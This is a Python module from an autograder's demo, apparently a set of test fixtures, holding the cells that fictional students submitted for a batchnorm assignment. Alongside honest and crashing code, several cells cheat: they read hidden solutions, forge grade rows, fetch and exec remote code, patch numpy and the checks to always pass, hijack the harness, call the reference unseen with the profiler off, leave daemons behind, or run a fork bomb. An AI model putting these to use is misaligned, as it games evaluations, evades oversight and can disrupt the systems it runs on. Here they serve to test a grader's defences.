"""What the demo class's made-up students wrote: the code of each scenario's cells.

The class's folder and assignment, then the sources: honest work (the course's validation
with a right or a slightly wrong body), accidents (loops, crashes, a memory bomb) and cheats
(reading the solutions or a classmate's work, writing the grades, the network, processes
left behind, patching numpy or the checks, forging the harness's replies, calling the
reference unseen, a fork bomb). :mod:`autograder.demo.scenarios` says which student wrote
which. Most of this file is those sources, as text: it is long for that reason alone.
"""

from __future__ import annotations

import textwrap

from .. import paths


ASSIGNMENT = "03_bn_forward"
CLASS_DIR = paths.CONFIG_DIR / "demo_class"
NETWORK_PORT = 48621   # the network fixture asks 127.0.0.1 here for the answers
ORPHAN_MARK = "bn-grader-orphan-probe"

VALIDATION = '''
    x = np.asarray(x)
    if x.ndim != 2:
        raise ValueError(f"x must have shape (N, D), got {x.shape}")
    if x.shape[0] < 2:
        raise ValueError("batch statistics need at least 2 examples")
    gamma = np.asarray(gamma, dtype=x.dtype)
    beta = np.asarray(beta, dtype=x.dtype)'''

FORWARD_BODY = '''
    mean = x.mean(axis=0)
    var = ((x - mean) ** 2).mean(axis=0)
    x_hat = (x - mean) / np.sqrt(var + x.dtype.type(eps))
    out = gamma * x_hat + beta
    return out, {"x_hat": x_hat, "mean": mean, "var": var, "gamma": gamma, "eps": eps}'''


def forward(body: str, prelude: str = "") -> str:
    """A batchnorm_forward cell: the course's input validation, then ``body``."""
    return (textwrap.dedent(prelude).strip() + "\n\n" if prelude else "") + (
        "def batchnorm_forward(x, gamma, beta, eps=1e-5):" + VALIDATION + "\n"
        + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ") + "\n")


RIGHT_FORWARD = forward(FORWARD_BODY)

# ---- accidents -----------------------------------------------------------------------

LOOPING_FORWARD = forward('''
    # the mean by successive refinement, until it stops changing: in float32 it never does
    mean = np.zeros(x.shape[1], dtype=x.dtype)
    while True:
        new = mean + (x - mean).mean(axis=0)
        if np.all(np.abs(new - mean) < 1e-12):
            break
        mean = new
''' + FORWARD_BODY)

STUBBORN_FORWARD = forward('''
    # waits for a result that never comes, and will not be interrupted
    import time
    while x.dtype == np.float32:
        try:
            time.sleep(0.05)
        except KeyboardInterrupt:
            pass
''' + FORWARD_BODY)

EXITING_FORWARD = forward('''
    if x.shape[0] > 3:  # "debugging": end the program on larger batches
        import os
        os._exit(1)
''' + FORWARD_BODY)

ABORTING_FORWARD = forward('''
    if x.dtype == np.float32:  # a C library giving up
        import os
        os.abort()
''' + FORWARD_BODY)

SEGFAULT_IDENTITY = '''
def identity_params(x, eps=1e-5):
    x = np.asarray(x)
    import ctypes
    ctypes.string_at(0)  # reads address 0: a segmentation fault
    return np.sqrt(x.var(axis=0) + eps), x.mean(axis=0)
'''

BOMB_FORWARD = forward('''
    workspace = np.ones(2**30)  # an 8 GiB "workspace", filled in
''' + FORWARD_BODY)

# ---- honest work with a mistake the checks name (the class report counts them) -------

UNBIASED_FORWARD = forward('''
    mean = x.mean(axis=0)
    var = x.var(axis=0, ddof=1)  # "the sample variance": divides by m - 1
    x_hat = (x - mean) / np.sqrt(var + x.dtype.type(eps))
    out = gamma * x_hat + beta
    return out, {"x_hat": x_hat, "mean": mean, "var": var, "gamma": gamma, "eps": eps}''')

UNBIASED_FORWARD_BY_HAND = forward('''
    mean = x.mean(axis=0)
    var = ((x - mean) ** 2).sum(axis=0) / (x.shape[0] - 1)
    x_hat = (x - mean) / np.sqrt(var + x.dtype.type(eps))
    out = gamma * x_hat + beta
    return out, {"x_hat": x_hat, "mean": mean, "var": var, "gamma": gamma, "eps": eps}''')

UNBIASED_IDENTITY = '''
def identity_params(x, eps=1e-5):
    x = np.asarray(x)
    gamma = np.sqrt(x.var(axis=0, ddof=1) + eps)
    return gamma.astype(x.dtype), x.mean(axis=0)
'''

#: the students above, and the mistake the checks must name in each of their test cells
#: (the start of the check's own words), for the class report's counts
NAMED_MISTAKES = {
    "unbiased-variance": {"batchnorm_forward_tests": "the unbiased variance (ddof=1"},
    "unbiased-variance-everywhere": {"batchnorm_forward_tests": "the unbiased variance (ddof=1",
                                     "identity_params_tests": "gamma uses the unbiased variance"},
}

# ---- cheats -------------------------------------------------------------------------

FROM_SOLUTIONS = '''
# Take the answers from the course's solutions (the hidden tests are there too).
import json, pathlib, re
import course_utils

root = pathlib.Path(course_utils.__file__).resolve().parents[1]
try:
    source = json.loads((root / "solutions/03_bn_forward/03_bn_forward.ipynb").read_text())
    for cell in source["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("solution") and cell["cell_type"] == "code":
            exec(re.sub(r"### (BEGIN|END) SOLUTION", "", "".join(cell["source"])))
    print("copied the solutions")
except OSError as exc:
    print("no solutions to copy:", exc)
    def batchnorm_forward(x, gamma, beta, eps=1e-5):
        raise NotImplementedError()

    def identity_params(x, eps=1e-5):
        raise NotImplementedError()
'''

FROM_CLASSMATE = '''
# Copy the best student's work: look for classmates' notebooks wherever grading happens.
import json, os, pathlib, re
import course_utils

places = {pathlib.Path("/tmp"), pathlib.Path(course_utils.__file__).resolve().parents[1] / "autograder"}
for pid in os.listdir("/proc"):  # where the grader's processes work
    try:
        places.add(pathlib.Path(os.readlink(f"/proc/{pid}/cwd")))
    except OSError:
        pass
found = None
for place in sorted(places):
    for folder, dirs, files in os.walk(place):
        if folder.count(os.sep) - str(place).count(os.sep) > 6:
            dirs[:] = []
        if "03_bn_forward.ipynb" in files and "all-right" in folder and "bn-grade-" not in folder:
            found = pathlib.Path(folder) / "03_bn_forward.ipynb"
            break
    if found:
        break
if found:
    for cell in json.loads(found.read_text())["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
            exec("".join(cell["source"]))
    print("copied", found)
else:
    print("no classmate found")
    def batchnorm_forward(x, gamma, beta, eps=1e-5):
        raise NotImplementedError()

    def identity_params(x, eps=1e-5):
        raise NotImplementedError()
'''

WRITE_GRADES = '''
# Give myself full marks: add a row to the grades file (and any file named in targets.txt).
import os, pathlib
import course_utils

root = pathlib.Path(course_utils.__file__).resolve().parents[1]
targets = [root / "grading-demo" / "grades.csv"]
if os.path.exists("targets.txt"):
    targets += [pathlib.Path(t) for t in open("targets.txt").read().split()]
for target in targets:
    try:
        if target.is_dir():
            (target / "forged.txt").write_text("writes-the-gradebook was here\\n")
        else:
            with open(target, "a") as f:
                f.write("writes-the-gradebook,03_bn_forward,5,5,,2,5,graded,\\n")
        print("wrote", target)
    except OSError as exc:
        print("could not write", target, exc)

def batchnorm_forward(x, gamma, beta, eps=1e-5):
    raise NotImplementedError()
'''

FROM_NETWORK = f'''
# Fetch working code from a helper on the network.
import urllib.request

code = None
for url in ("http://127.0.0.1:{NETWORK_PORT}/answers.py", "http://example.org/answers.py"):
    try:
        code = urllib.request.urlopen(url, timeout=3).read().decode()
        break
    except OSError as exc:
        print("no answer from", url, exc)
if code:
    exec(code)
else:
    def batchnorm_forward(x, gamma, beta, eps=1e-5):
        raise NotImplementedError()

    def identity_params(x, eps=1e-5):
        raise NotImplementedError()
'''

BACKGROUND = f'''
# Leave two processes behind: a child, and a daemon that detaches itself (double fork).
import os, subprocess, sys

subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)", "{ORPHAN_MARK}"])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600)",
                                  "{ORPHAN_MARK}"])
    os._exit(0)
print("started two background processes")
'''

PATCH_NUMPY = '''
# Make every comparison succeed, then return anything of the right shape.
import numpy as np

np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.isfinite = lambda a, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None

def batchnorm_forward(x, gamma, beta, eps=1e-5):
    x = np.asarray(x)
    if x.ndim != 2 or x.shape[0] < 2:
        raise ValueError("batch statistics need at least 2 examples")
    d = x.shape[1]
    zeros = np.zeros(d, dtype=x.dtype)
    return np.zeros_like(x), {"x_hat": np.zeros_like(x), "mean": zeros, "var": zeros,
                              "gamma": zeros, "eps": eps}
'''

PATCH_NUMPY_IDENTITY = '''
def identity_params(x, eps=1e-5):
    x = np.asarray(x)
    return np.zeros(x.shape[1], dtype=x.dtype), np.zeros(x.shape[1], dtype=x.dtype)
'''

PATCH_CHECKS = '''
# Make the tests pass without doing the work: replace the checks everywhere they live.
import course_utils.checks
import course_utils.checks._core as core

def check_batchnorm_forward(*args, **kwargs):
    return None

def check_identity_params(*args, **kwargs):
    return None

course_utils.checks.check_batchnorm_forward = check_batchnorm_forward
course_utils.checks.check_identity_params = check_identity_params
for name in ("expect_array", "expect_close", "expect_tuple", "expect_raises", "fail"):
    setattr(core, name, lambda *args, **kwargs: None)

def batchnorm_forward(x, gamma, beta, eps=1e-5):
    raise NotImplementedError()
'''


FORGED_DESCRIBE = """
# Answer the grader's questions with more than it asked: checks that always pass, a numpy
# whose comparisons always succeed and builtins that agree with everything.
import types

_harness = __bn_grader__  # noqa: F821 - the grading harness, as the kernel holds it
_answer = _harness._handle


def _passes(*args, **kwargs):
    return None


def _forged(request):
    reply = _answer(request)
    if request.get("op") == "describe" and reply.get("ok"):
        extra = {name: _passes for name in ("check_batchnorm_forward", "check_identity_params",
                                            "isinstance", "len", "print", "AssertionError")}
        extra["np"] = types.SimpleNamespace(allclose=lambda *a, **k: True)
        pairs = reply["value"]["$dict"] + [[k, _harness.side.encode(v)] for k, v in extra.items()]
        reply["value"] = {"$dict": pairs}
    return reply


_harness._handle = _forged
"""

UNSEEN_REFERENCE = """
# Call the course's reference with the profiler off: no record of the call is made.
import sys

from course_utils import reference as _reference


def _unseen(function, *args, **kwargs):
    saved = sys.getprofile()
    sys.setprofile(None)
    try:
        return function(*args, **kwargs)
    finally:
        sys.setprofile(saved)


def batchnorm_forward(x, gamma, beta, eps=1e-5):
    return _unseen(_reference.batchnorm_forward, x, gamma, beta, eps=eps)


def identity_params(x, eps=1e-5):
    return _unseen(_reference.identity_params, x, eps=eps)
"""

HUGE_REPLY = forward('''
    return np.ones((3000, 2000)), {}  # a 48 MB "result": one reply far larger than any answer
''')

FORK_BOMB = """
# Every process goes on starting processes, for ever.
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
"""
